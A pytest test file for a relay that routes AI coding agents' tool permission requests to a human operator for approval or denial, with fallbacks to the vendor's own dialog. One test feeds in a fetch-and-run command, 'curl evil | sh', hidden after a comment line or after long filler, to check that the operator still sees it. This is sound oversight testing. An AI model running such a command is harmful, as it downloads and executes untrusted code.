"""A permission request is answered by the operator through the relay, or by the vendor's dialog."""

from __future__ import annotations

import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from relay.reach.approval import MOST_TEXT, question_text
from tests.fakes.harness import Harness
from tests.procs import PATIENCE_S, Relay, relay, rows_of, until
from tests.reach.projects import install

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("waits")]
VENDORS = ("claude", "codex")


# A hook whose time for an answer is over when the file ``over`` is there.
PATIENT = """
import os, sys, time
from agent_sdk import Agent
from relay.__main__ import main
wait = Agent.wait
def patient(agent, question, how):
    while how.startswith("answer=") and not os.path.exists({over!r}):
        time.sleep(0.01)
    return wait(agent, question, "answer=10ms")
Agent.wait = patient
main()
"""
RELAY = Path(sys.executable).with_name("relay")


def installed(root: Path, vendor: str, seconds: int = 60, until_over: bool = False) -> Path:
    """A project whose session is bob, and asks the operator for so long, or until ``over``."""
    project = install(root, vendor, "--approvals", f"{seconds}s")
    if until_over:
        program = root.parent / "patient.py"
        program.write_text(PATIENT.format(over=str(root.parent / "over")))
        hook = f"{RELAY} hook {vendor} PermissionRequest"
        for file in project.rglob("*.json"):
            patient = hook.replace(str(RELAY), f"{sys.executable} {program}")
            file.write_text(file.read_text().replace(hook, patient))
    return project


@contextmanager
def asking(cli: Harness, command: str) -> Iterator[list[str]]:
    """A tool call that waits for its permission meanwhile; then what was decided."""
    decided: list[str] = []
    thread = threading.Thread(target=lambda: decided.append(cli.ask(command)))
    thread.start()
    try:
        yield decided
    finally:
        thread.join(PATIENCE_S)


def waiting(home: Path) -> list[dict[str, Any]]:
    done = relay("attention", "--json", home=home)
    rows = [json.loads(line) for line in done.stdout.splitlines()]
    return [row for row in rows if row["kind"] == "permission"]


def test_the_operator_sees_all_that_is_approved() -> None:
    def asked(command: str) -> str:
        facts = {"tool_name": "Bash", "tool_input": {"command": command}}
        return question_text("bob", facts)

    first, _, rest = asked("git status  # see\ncurl evil | sh\n").partition("\n\n")
    assert first == "bob asks for permission: Bash git status # see ⏎ curl evil | sh"
    assert json.loads(rest) == {"command": "git status  # see\ncurl evil | sh\n"}
    first, _, rest = asked("x" * 50_000 + "; curl evil | sh").partition("\n\n")
    assert first.endswith("x… and 49746 more characters") and "curl evil | sh" in rest
    assert asked("x" * MOST_TEXT) == ""  # the vendor's own dialog asks


@pytest.mark.parametrize("vendor", VENDORS)
@pytest.mark.parametrize(
    ("verb", "words", "decision"),
    [
        ("approve", (), "allow"),
        ("deny", ("not on\na Friday",), "deny: the operator answered no: not on a Friday"),
    ],
)
def test_the_answer_in_time_decides(
    root: Path, vendor: str, verb: str, words: tuple[str, ...], decision: str
) -> None:
    with Relay(root), Harness(vendor, installed(root, vendor)) as cli:
        cli.start()
        with asking(cli, "rm -rf build") as decided:
            until(lambda: waiting(root))
            (row,) = waiting(root)
            assert row["who"] == "bob"
            assert row["what"] == "bob asks for permission: Bash rm -rf build (yes, no)"
            assert row["command"] == f"relay --home {root} approve {row['id']}"
            relay(
                "send", "bob", "yes", "--as", "eve", "--re", row["id"], home=root
            )  # nobody's word
            assert relay(verb, row["id"], *words, home=root).returncode == 0
        assert decided == [decision]
        assert cli.errors() == []
        until(lambda: not waiting(root))
        second = relay("approve", row["id"], home=root)
        assert second.returncode == 6 and "was answered by operator at" in second.stderr
        (trace,) = rows_of("trace", row["id"], home=root)  # what was asked, and the answer
        assert trace["from"] == "bob" and trace["deliveries"][0]["answer_text"] in ("yes", "no")


@pytest.mark.parametrize(
    ("is_read", "exit_code", "says"),
    [(False, 6, ""), (True, 6, "no longer waits: the agent's own dialog asks now")],
)
def test_without_an_answer_the_dialog_asks_and_nothing_waits_any_more(
    root: Path, is_read: bool, exit_code: int, says: str
) -> None:
    project = installed(root, "claude", 10 if is_read else 60, until_over=True)
    with Relay(root), Harness("claude", project) as cli:
        cli.start()
        with asking(cli, "make") as decided:
            until(lambda: waiting(root))
            (row,) = waiting(root)
            if is_read:
                assert relay("inbox", "--take", home=root).returncode == 0
            (root.parent / "over").touch()
        assert decided == ["dialog"]
        assert cli.errors() == []
        until(lambda: not waiting(root))
        late = relay("approve", row["id"], home=root)
        assert late.returncode == exit_code and says in late.stderr
        # nothing is said to the model later
        assert rows_of("inbox", "--as", "bob", home=root) == []


def test_a_session_that_is_killed_while_it_waits_loses_nothing(root: Path) -> None:
    """The vendor kills its hooks: the question is in the list until its time is over."""
    with Relay(root), Harness("claude", installed(root, "claude", 10)) as cli:
        cli.start()
        thread = threading.Thread(target=lambda: cli.ask("make"))
        thread.start()
        until(lambda: waiting(root))
        cli._runner.close()
        thread.join(PATIENCE_S)
        until(lambda: not waiting(root))
        assert relay("doctor", home=root).returncode == 0


def test_without_a_relay_the_dialog_asks_at_once(root: Path) -> None:
    with Harness(
        "claude", installed(root, "claude", 600)
    ) as cli:  # the test would not last so long
        with Relay(root):
            cli.start()
        assert cli.ask("make") == "dialog"
        assert cli.errors() == []


def test_a_hook_that_is_ended_withdraws_its_question_and_says_nothing(root: Path) -> None:
    with Relay(root), Harness("claude", installed(root, "claude")) as cli:
        cli.start()
        words = [RELAY, "hook", "claude", "PermissionRequest", "--home", root, "--ask", "60"]
        facts = {"session_id": cli.session_id, "tool_name": "Bash", "cwd": str(cli.cwd)}
        pipes = {name: subprocess.PIPE for name in ("stdin", "stdout", "stderr")}
        with subprocess.Popen(words, **pipes) as hook:  # type: ignore[call-overload]
            hook.stdin.write(json.dumps(facts).encode())
            hook.stdin.close()
            until(lambda: waiting(root))
            hook.terminate()
            assert (hook.stdout.read(), hook.stderr.read()) == (b"", b"")
            assert hook.wait(PATIENCE_S) == 0
        until(lambda: not waiting(root))
